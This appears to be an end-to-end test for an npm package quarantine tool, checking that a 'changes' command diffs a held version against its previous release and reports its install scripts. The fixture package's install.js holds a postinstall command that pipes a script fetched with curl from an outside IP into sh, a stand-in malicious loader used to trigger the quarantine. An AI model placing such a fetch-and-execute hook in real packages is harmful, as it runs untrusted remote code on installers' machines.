/**
 * A reviewer's first question about a held version: what changed since the release before it?
 * `airlock quarantine changes ID` (GET /-/api/quarantine/{id}/changes) compares the held version's
 * verified tarball with the previous version's, file by file, and shows the install scripts
 * before and after.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { FIXTURE_PACKAGES } from '../../npm/helpers.ts';
import { e2e, quarantineIdIn } from './support.ts';

const CHANGING = {
  name: 'scripted-changes',
  versions: [
    { version: '1.0.0', publishedAt: '2024-01-01T00:00:00.000Z', files: [{ path: 'lib/util.js', content: 'module.exports = 1;\n' }, { path: 'README.md', content: '# hello\n' }] },
    {
      version: '1.1.0',
      publishedAt: '2024-02-01T00:00:00.000Z',
      manifest: { scripts: { postinstall: 'node install.js' } },
      files: [
        { path: 'install.js', content: 'require("child_process").exec("curl -s http://203.0.113.7/p | sh");\n' },
        { path: 'README.md', content: '# hello\n' },
      ],
    },
  ],
};

test('airlock quarantine changes: the held version against the release before it, file by file, with its install scripts', async (t) => {
  const s = await e2e({ packages: [...FIXTURE_PACKAGES, CHANGING] });
  t.after(() => s.close());
  const p = await s.project();
  const held = await p.npm(['install', 'scripted-changes@1.1.0']);
  assert.notEqual(held.code, 0);
  const id = quarantineIdIn(held.output);
  assert.notEqual(id, '', held.output);

  const text = await s.cli(['quarantine', 'changes', id]);
  assert.equal(text.code, 0, text.output);
  const lines = text.stdout.trim().split('\n');
  assert.equal(lines[0], 'pkg:npm/scripted-changes@1.1.0 against 1.0.0: 1 added, 1 removed, 2 changed, 1 unchanged');
  assert.match(lines[1] ?? '', /^ {2}\+ install\.js {2}\(\d+ bytes\)$/);
  assert.match(lines[2] ?? '', /^ {2}- lib\/util\.js {2}\(20 bytes\)$/);
  // The fixture's index.js names its version; package.json gained the script.
  assert.match(lines[3] ?? '', /^ {2}~ index\.js {2}\(\d+ bytes -> \d+ bytes\)$/);
  assert.match(lines[4] ?? '', /^ {2}~ package\.json {2}\(\d+ bytes -> \d+ bytes\)$/);
  assert.equal(lines[5], 'install scripts: none -> postinstall: node install.js');

  const json = await s.cli(['quarantine', 'changes', id, '--format', 'json']);
  const report = JSON.parse(json.stdout) as { base: string; unchanged: number; counts: Record<string, number>; installScripts: { before: object; after: object } };
  assert.equal(report.base, '1.0.0');
  assert.deepEqual(report.counts, { added: 1, removed: 1, changed: 2 });
  assert.equal(report.unchanged, 1, 'README.md');
  assert.deepEqual(report.installScripts, { before: {}, after: { postinstall: 'node install.js' } });

  // Comparing fetched and verified the earlier release, without judging it: no decision on it.
  const decisions = async (purl: string): Promise<unknown[]> => {
    const res = await fetch(`${s.airlock.url}/-/api/decisions?purl=${encodeURIComponent(purl)}`, { headers: { authorization: `Bearer ${s.airlock.adminToken}` } });
    assert.equal(res.status, 200);
    return ((await res.json()) as { items: unknown[] }).items;
  };
  assert.equal((await decisions('pkg:npm/scripted-changes@1.0.0')).length, 0);
  assert.equal((await decisions('pkg:npm/scripted-changes@1.1.0')).length, 1);
  assert.ok(s.env.registry.requests.some((r) => r.path === '/scripted-changes/-/scripted-changes-1.0.0.tgz'), 'the earlier tarball came from the upstream');

  // A package's first release has nothing before it: every file is new.
  const first = await p.npm(['install', 'scripted-pkg']);
  const firstId = quarantineIdIn(first.output);
  const alone = await s.cli(['quarantine', 'changes', firstId]);
  assert.equal(alone.code, 0, alone.output);
  assert.match(alone.stdout, /^pkg:npm\/scripted-pkg@1\.0\.0 is the package's first release here: 2 files\n/);
  assert.match(alone.stdout, /install scripts: postinstall: node -e "1"\n$/);

  const anonymous = await fetch(`${s.airlock.url}/-/api/quarantine/${firstId}/changes`);
  assert.equal(anonymous.status, 401, 'a reader token at least');
  const unknown = await s.cli(['quarantine', 'changes', '01JQ0000000000000000000000']);
  assert.notEqual(unknown.code, 0);
  assert.match(unknown.output, /not found|no quarantine/i);
});
